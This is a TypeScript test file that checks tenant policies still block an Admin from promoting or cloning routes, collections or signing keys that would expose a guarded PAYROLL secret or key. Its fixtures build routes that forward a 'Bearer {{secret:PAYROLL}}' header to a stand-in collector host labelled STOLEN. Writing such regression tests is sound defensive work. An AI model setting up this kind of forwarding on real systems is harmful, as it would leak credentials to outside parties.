import assert from 'node:assert/strict';
import test from 'node:test';
import { forgetRules } from '#server/domain/policies/service.ts';
import { route } from '#server/domain/routes/samples.fixture.ts';
import type { Ctx, Space } from '#server/kernel/context.ts';
import { newId } from '#server/kernel/ids.ts';
import { db } from '#server/platform/db.ts';
import { testDatabase } from '#server/testing/database.ts';
import { fresh, made } from '#server/testing/factories.ts';
import { memberActor, workspace } from '#server/testing/workspace.ts';

await testDatabase();

// Promotion writes what the verbs of a family write, so it asks what they ask: nobody gets a secret sent that a policy keeps from them by making a route in the
// other space and moving it over.

/** What stands ready in the space that it comes from, beside what is in the space that it goes to; and the item to move. */
type Case = { denied: 'secret:read' | 'transit:sign'; item: 'route' | 'collection'; make(here: Ctx, there: Ctx): Promise<{ id: string }> };

const STOLEN = 'https://collector.example.com';
const sending = async (ctx: Ctx, more: object) =>
  (await made(ctx, 'routes.create', { ...(await route(ctx)), target_base_url: STOLEN, ...more })) as { id: string };
const bearer = { inject_headers_json: { Authorization: 'Bearer {{secret:PAYROLL}}' } };

const CASES: Record<string, Case> = {
  'a new route that sends it': { denied: 'secret:read', item: 'route', make: (here) => sending(here, bearer) },
  'a route that is there and sends it elsewhere': {
    denied: 'secret:read',
    item: 'route',
    async make(here, there) {
      const slug = fresh('payroll');
      await made(there, 'routes.create', { ...(await route(there)), slug, name: slug, ...bearer });
      return sending(here, { slug, name: slug, ...bearer });
    },
  },
  'a route that is there and did not send it': {
    denied: 'secret:read',
    item: 'route',
    async make(here, there) {
      const slug = fresh('payroll');
      await made(there, 'routes.create', { ...(await route(there)), slug, name: slug, target_base_url: STOLEN, body_placeholders: 'off' });
      return sending(here, { slug, name: slug, body_placeholders: 'off', ...bearer });
    },
  },
  'a route whose callers may name it': {
    denied: 'secret:read',
    item: 'route',
    make: (here) => sending(here, { body_placeholders: 'all' }),
  },
  'a variable that stands for it': {
    denied: 'secret:read',
    item: 'collection',
    async make(here, there) {
      const name = fresh('Payroll');
      const withVariable = async (ctx: Ctx, secret: string) => {
        const { id } = await made(ctx, 'collections.create', { name });
        const secret_id = (await secretNamed(ctx, secret)).id;
        await made(ctx, 'collections.variables.create', { id, key: 'TOKEN', type: 'secret', secret_id });
        return { id: id as string };
      };
      await withVariable(there, 'HARMLESS');
      return withVariable(here, 'PAYROLL');
    },
  },
  'a key that it signs with': {
    denied: 'transit:sign',
    item: 'route',
    make: (here) =>
      sending(here, { body_placeholders: 'off', upstream_auth: { type: 'jwt_bearer', algorithm: 'EdDSA', key_name: 'payroll' } }),
  },
};

/** An Admin whom a policy keeps from one secret, or one key, of the space that things are moved to; and the spaces as their machines see them. */
async function prepared(to: Space, capability: Case['denied']) {
  const w = await workspace();
  const [here, there] = [w[to === 'live' ? 'test' : 'live'], w[to]];
  for (const ctx of [here, there]) {
    for (const name of ['PAYROLL', 'HARMLESS']) await made(ctx, 'secrets.create', { name, value: 'a value' });
    await made(ctx, 'crypto_keys.create', { name: 'payroll', key_type: 'ed25519' });
  }
  const admin = w.ctx(to, memberActor('admin'));
  const guarded =
    capability === 'secret:read' ? await secretNamed(there, 'PAYROLL') : await made(there, 'crypto_keys.get', { name: 'payroll' });
  await db().tenant_policies.create({
    data: {
      ...{ id: newId(), tenant_id: w.tenant.id, name: 'payroll is not for Admins', actions: [capability] },
      ...{ subjects: { user_ids: [admin.actor.id] }, resources: [guarded.id as string] },
    },
  });
  forgetRules(w.tenant.id);
  return { admin, here, there };
}

const secretNamed = ({ tenant_id, sandbox }: Ctx, shortcode_name: string) =>
  db().secrets.findFirstOrThrow({ where: { tenant_id, sandbox, shortcode_name }, select: { id: true } });

for (const to of ['live', 'test'] as const)
  for (const [what, { denied, item, make }] of Object.entries(CASES))
    test(`${what} is not moved by somebody whom a policy keeps from it (to ${to})`, async () => {
      const { admin, here, there } = await prepared(to, denied);
      const { id } = await make(here, there);
      const move = (by: Ctx) => made(by, to === 'live' ? 'sandbox.promote' : 'sandbox.clone', { items: [{ type: item, id }] });
      await assert.rejects(move(admin), { type: 'role_denied', message: /payroll is not for Admins/ });
      const { items } = await move({ ...admin, actor: memberActor('admin') });
      assert.ok(
        items.some((one: { type: string; action: string }) => one.type === item && ['create', 'update'].includes(one.action)),
        'another Admin may',
      );
    });
